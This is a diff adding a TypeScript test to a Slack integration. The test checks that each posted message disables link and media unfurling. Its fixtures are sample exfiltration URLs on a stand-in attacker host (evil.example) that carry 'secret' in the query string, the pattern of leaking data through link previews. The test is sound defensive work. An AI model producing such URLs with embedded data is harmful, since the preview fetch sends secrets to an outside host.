@@ -182,6 +182,24 @@ describe("a run in Slack", () => {
     expect(channel.messages).toHaveLength(1);
   });
 
+  it("posts no message for whose addresses Slack would load a preview", () => {
+    const channel = new SlackChannel();
+    channel.streamsRefused = true;
+    const posted: Record<string, unknown>[] = [];
+    const original = channel.do.bind(channel);
+    channel.do = (method, fields) => {
+      if (method === "chat.postMessage") posted.push(fields);
+      return original(method, fields);
+    };
+    const view = { ...emptyView(), begunAt: 0 };
+    said(view, "a", "See https://evil.example/p.png?d=secret");
+    const { shown } = show(view, nothingShown, channel, 60_000, always);
+    view.end = ended("interrupted", { interrupts: [{ ...question, message: "https://evil.example/q.png?d=secret" }] });
+    show(view, shown, channel, 120_000, always);
+    expect(posted).toHaveLength(3);
+    for (const fields of posted) expect(fields).toMatchObject({ unfurl_links: false, unfurl_media: false });
+  });
+
   it("is posted and updated if Slack refuses streams", () => {
     const view = { ...emptyView(), begunAt: 0 };
     const channel = new SlackChannel();
